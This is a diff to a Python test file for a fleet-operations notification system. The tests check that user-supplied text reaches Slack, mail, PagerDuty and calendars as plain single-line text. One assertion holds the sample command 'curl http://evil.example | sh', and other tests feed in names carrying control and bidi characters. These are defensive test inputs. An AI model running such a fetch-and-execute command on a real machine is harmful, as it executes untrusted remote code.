@@ -1,11 +1,9 @@
 """What machines and people are called and write is text in every channel: no markup, mention, link or new line."""
 
 import json
-from collections.abc import Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from email import message_from_bytes, policy
-from email.message import EmailMessage
 from itertools import product
 from typing import Any
 from urllib.parse import unquote_plus
@@ -16,6 +14,7 @@ from django.contrib.auth.models import User
 from django.test import Client
 
 from fleet.audit import handovers
+from fleet.domain.actor import Actor
 from fleet.domain.orders.by_hand import linux_command, windows_command
 from fleet.domain.texts import is_seen
 from fleet.domain.timeline import EntryKind
@@ -27,16 +26,14 @@ from fleet.notifications.news import LONGEST_LABEL, MessageNews, open_things
 from fleet.notifications.routing import GROUP
 from fleet.notifications.sender import services
 from fleet.notifications.sender.jobs import AppriseJob
-from fleet.notifications.sender.pool import Pool
 from fleet.notifications.text import group_words, is_command, message_words
 from fleet.operations import reconcile, waves
 from fleet.operations.approvals import claims
 from fleet.operations.policy import rules
 from fleet.wording.times import Form, Reader
 from tests import accounts, factories
-from tests.factories import EVENT, Fleet, acting, announced, listing, operator, the_event
+from tests.factories import EVENT, Fleet, acting, announced, listing, operator
 from tests.messages.hostile import LINKS, MARKUP, SAMPLE, broken_lines, texts, unseen
-from tests.messages.pretend import listening
 from tests.messages.pretend_slack import TOKEN, PretendSlack
 from tests.messages.telling import a_message, news
 
@@ -65,9 +62,13 @@ CHATS = {
 STORABLE = SAMPLE.replace("\x00", "")
 
 
+def otto() -> Actor:
+    return acting(operator(), why=STORABLE)
+
+
 def claimed(fleet: Fleet) -> EntryKind:
     announced(fleet)
-    claims.claim(event_id=the_event().event_id, actor=acting(operator()), now=fleet.now)
+    claims.claim(event_id=EVENT, actor=otto(), now=fleet.now)
     Claim.objects.update(comment=STORABLE)
     User.objects.update(username=STORABLE[:150])
     return EntryKind.EVENT_CLAIMED
@@ -87,20 +88,15 @@ def sent_by_a_wave(fleet: Fleet) -> EntryKind:
     other = f"{EVENT[:-1]}9"
     fleet.all_say(listing(), listing(other, resources=("vm2",)))
     guards = ("last-live-machines", "other-open-event", "service-in-flight", "short-notice")
-    waves.begin(
-        actor=acting(operator(), why=STORABLE),
-        events=[EVENT, other],
-        overrides=dict.fromkeys(guards, STORABLE),
-        now=fleet.now,
-    )
+    waves.begin(actor=otto(), events=[EVENT, other], overrides=dict.fromkeys(guards, STORABLE), now=fleet.now)
     return EntryKind.APPROVAL_PLANNED
 
 
 def noted_and_assigned(fleet: Fleet) -> EntryKind:
     announced(fleet)
     factories.approver()
-    claims.note(event_id=EVENT, actor=acting(operator(), why=STORABLE), now=fleet.now)
-    claims.claim(event_id=EVENT, actor=acting(operator(), why=STORABLE), assign_to="anna", now=fleet.now)
+    claims.note(event_id=EVENT, actor=otto(), now=fleet.now)
+    claims.claim(event_id=EVENT, actor=otto(), assign_to="anna", now=fleet.now)
     return EntryKind.EVENT_CLAIMED
 
 
@@ -121,13 +117,10 @@ def reader(told: MessageNews) -> Reader:
 
 def post_of(told: MessageNews, *, many: bool = False) -> Delivery:
     """As the queue makes it: of one thing, or of several."""
-    words = message_words(told, reader(told))
-    other = replace(told, subject="event:other")
-    if many:
-        words = group_words([told, other], reader(told))
-    items = tuple(Item(each, reader(told)) for each in ((told, other) if many else (told,)))
-    return Delivery("11111111-1111-4111-8111-111111111111", GROUP if many else told.moment, told.at, items, words,
-                BASE + words.path)  # fmt: skip
+    several = [told, replace(told, subject="event:other")] if many else [told]
+    words = group_words(several, reader(told)) if many else message_words(told, reader(told))
+    items = tuple(Item(each, reader(told)) for each in several)
+    return Delivery("11111111", GROUP if many else told.moment, told.at, items, words, BASE + words.path)
 
 
 @pytest.fixture
@@ -151,11 +144,11 @@ def handed_over() -> MessageNews:
     """Return the news of a handover whose comment, decisions, sets and machines carry the sample text."""
     fleet = Fleet()
     announced(fleet)
-    claims.hold(event_id=EVENT, actor=acting(operator(), why=STORABLE), now=fleet.now)
+    claims.hold(event_id=EVENT, actor=otto(), now=fleet.now)
     AvailabilitySet.objects.update(name=STORABLE, service=STORABLE)
     ScheduledEvent.objects.update(resources=[STORABLE], event_type=STORABLE)
     fleet.later(1)
-    handovers.send(since=None, until=None, actor=acting(operator(), why=STORABLE), now=fleet.now)
+    handovers.send(since=None, until=None, actor=otto(), now=fleet.now)
     return news(a_message(EntryKind.HANDOVER_SENT, now=fleet.now), now=fleet.now)
 
 
@@ -211,14 +204,9 @@ def test_commands_are_not_changed() -> None:
     assert not is_command("curl http://evil.example | sh")
 
 
-def test_slack_gets_plain_text(told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
-    there = PretendSlack()
-    with listening(there):
-        monkeypatch.setattr(slack, "URL", f"{there.url}/api")
-        monkeypatch.setattr(slack, "send_job", loopback_pool.send)
-        channel = ChannelInUse(1, "slack", "x", {"token": TOKEN, "channel": "#shop-ops", "signing_secret": "s" * 32})
-        assert slack.send(post_of(told), channel, now=told.at).ok
-        assert slack.send(post_of(told, many=True), channel, now=told.at).ok
+def test_slack_gets_plain_text(told: MessageNews, there: PretendSlack) -> None:
+    channel = ChannelInUse(1, "slack", "x", {"token": TOKEN, "channel": "#shop-ops", "signing_secret": "s" * 32})
+    assert all(slack.send(post_of(told, many=many), channel, now=told.at).ok for many in (False, True))
     for _, arguments in there.calls:
         assert "<" not in json.dumps(arguments)
         assert [link for link in LINKS if link in arguments["text"]] == []
@@ -234,22 +222,14 @@ def test_pagerduty_gets_one_line(told: MessageNews) -> None:
     assert broken_lines(payload["custom_details"]["text"]) == []
 
 
-def mail_of(told: MessageNews) -> EmailMessage:
-    raw = mail.written(post_of(told), "ann@example.org", now=told.at)
-    found: EmailMessage = message_from_bytes(raw, policy=policy.default)  # type: ignore[assignment]
-    return found
-
-
 def test_mail_has_one_link_and_no_injected_header(told: MessageNews, settings: Any) -> None:
     settings.BASE_URL = BASE
-    got = mail_of(told)
+    got: Any = message_from_bytes(mail.written(post_of(told), "ann@example.org", now=told.at), policy=policy.default)
     assert got["Bcc"] is None and len(got.get_all("To", [])) == 1
     assert is_seen(str(got["Subject"]))
-    text, page = got.get_body(["plain"]), got.get_body(["html"])
-    assert text is not None and page is not None
-    html = page.get_content()
+    text, html = (got.get_body([kind]).get_content() for kind in ("plain", "html"))
     assert html.count("<a ") == 1 and "<!channel>" not in html and "<https" not in html
-    for body in (text.get_content(), html):
+    for body in (text, html):
         assert [link for link in LINKS if link in body] == []
         assert unseen(body) == [] and broken_lines(body) == []
 
@@ -283,18 +263,11 @@ def test_calendar_stays_valid(told: MessageNews, client: Client) -> None:
     assert not [line for line in lines if unseen(line)]
 
 
-@pytest.fixture
-def desk() -> Iterator[Client]:
-    client = Client()
+def test_given_names_are_one_line(client: Client) -> None:
     client.force_login(factories.admin())
-    yield client
-
-
-def test_given_names_are_one_line(desk: Client) -> None:
     for name in ("a\r\nb", "a\nb", "a\x1bb", "a\u202eb", "a\u200bb", "a\u2028b", "\ufeffa b"):
-        assert desk.post("/you/calendars/", {"name": name}).status_code == 200
+        assert client.post("/you/calendars/", {"name": name}).status_code == 200
         assert CalendarFeed.objects.latest("pk").name == "a b", name
-        token = desk.post(
-            "/api/v1/tokens/", {"name": name, "scopes": ["read"], "expires_in_seconds": 60}, "application/json"
-        )
+        body = {"name": name, "scopes": ["read"], "expires_in_seconds": 60}
+        token = client.post("/api/v1/tokens/", body, "application/json")
         assert (token.status_code, token.json()["name"]) == (201, "a b"), name
